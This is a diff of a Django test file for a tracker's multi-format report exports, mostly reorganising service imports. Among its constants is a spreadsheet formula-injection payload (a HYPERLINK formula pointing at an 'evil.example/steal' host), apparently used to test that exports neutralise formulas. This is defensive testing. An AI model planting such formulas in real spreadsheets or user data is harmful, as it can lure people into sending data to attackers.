@@ -12,14 +12,16 @@ from django.utils import timezone
 from docx import Document
 from pypdf import PdfReader
 
-from roadmap.exports import FORMULA_PREFIXES
+from core.spreadsheets import FORMULA_PREFIXES
 from tests import factories
 from tests.tracker.conftest import open_cycle, write_update
-from tracker import services
-from tracker.reports.build import build_report
-from tracker.reports.data import gather_report
+from tracker.cycles import services as cycle_services
+from tracker.reports.content import gather_report
 from tracker.reports.render import render
 from tracker.reports.render.pdf import ResourceRefused, StaticFilesOnly
+from tracker.reports.services import build_report
+from tracker.review import services as review_services
+from tracker.updates import services as update_services
 
 VI_NARRATIVE = "Thúc đẩy nhận thức – Việt Nam đã triển khai thí điểm ở hai tỉnh"
 FORMULA_NARRATIVE = '=HYPERLINK("http://evil.example/steal","Open")'
@@ -35,14 +37,14 @@ FORMATS = ["html", "pdf", "xlsx", "csv", "docx"]
 
 
 def _approve(user, activity, cycle, secretariat_user, narrative, content=None, **fields):
-    update = services.new_update(activity=activity, cycle=cycle, author=user)
+    update = update_services.new_update(activity=activity, cycle=cycle, author=user)
     update.narrative = narrative
     for name, value in fields.items():
         setattr(update, name, value)
-    update = services.progress_update_save(
-        update=update, content=content or services.UpdateContent(), acting_user=user, submit=True
+    update = update_services.progress_update_save(
+        update=update, content=content or update_services.UpdateContent(), acting_user=user, submit=True
     )
-    return services.progress_update_approve(update=update, acting_user=secretariat_user)
+    return review_services.progress_update_approve(update=update, acting_user=secretariat_user)
 
 
 @pytest.fixture
@@ -80,7 +82,7 @@ def record(plan, cycle, roadmap, viet_nam, thailand, focal_vn, focal_th, secreta
         (r23, thailand),
         (r24, thailand),
     ):
-        services.due_update_add(
+        cycle_services.due_update_add(
             cycle=cycle, activity=activity, member_state=party, acting_user=secretariat_user
         )
 
@@ -101,7 +103,7 @@ def record(plan, cycle, roadmap, viet_nam, thailand, focal_vn, focal_th, secreta
         cycle,
         secretariat_user,
         VI_NARRATIVE,
-        content=services.UpdateContent(
+        content=update_services.UpdateContent(
             achievements=[(plan["milestone"], yesterday)],
             indicator_values=[(plan["indicator"], viet_nam, Decimal("120"), "Provisional")],
             links=[("https://example.org/pilot-report", "Pilot report")],
@@ -126,7 +128,9 @@ def record(plan, cycle, roadmap, viet_nam, thailand, focal_vn, focal_th, secreta
     write_update(focal_vn, r22, cycle, narrative=DRAFT_TEXT)
     write_update(focal_th, r23, cycle, submit=True, narrative=SUBMITTED_TEXT)
     returned = write_update(focal_th, r24, cycle, submit=True, narrative=RETURNED_TEXT)
-    services.progress_update_return(update=returned, comment="Name the sites.", acting_user=secretariat_user)
+    review_services.progress_update_return(
+        update=returned, comment="Name the sites.", acting_user=secretariat_user
+    )
     return {"cycle": cycle, "activities": [plan["activity"], r22, r23, r24]}
 
 
@@ -396,7 +400,7 @@ def test_html_renders_markdown_narratives_sanitised(
     activity = factories.ActivityFactory(
         roadmap=roadmap, recommendation=plan["recommendation"], code="R2.9", lead_member_states=[viet_nam]
     )
-    services.due_update_add(
+    cycle_services.due_update_add(
         cycle=record["cycle"], activity=activity, member_state=viet_nam, acting_user=secretariat_user
     )
     _approve(
@@ -456,7 +460,7 @@ def test_changes_since_the_previous_cycle_are_listed(plan, focal_vn, secretariat
         period_end=today - datetime.timedelta(days=200),
         deadline=today - datetime.timedelta(days=190),
     )
-    services.cycle_open(cycle=earlier, acting_user=secretariat_user)
+    cycle_services.cycle_open(cycle=earlier, acting_user=secretariat_user)
     _approve(
         focal_vn,
         plan["activity"],
@@ -466,7 +470,7 @@ def test_changes_since_the_previous_cycle_are_listed(plan, focal_vn, secretariat
         proposed_percent=10,
         proposed_status="ongoing",
     )
-    services.cycle_close(cycle=earlier, acting_user=secretariat_user)
+    cycle_services.cycle_close(cycle=earlier, acting_user=secretariat_user)
     current = open_cycle(secretariat_user)
     _approve(
         focal_vn,
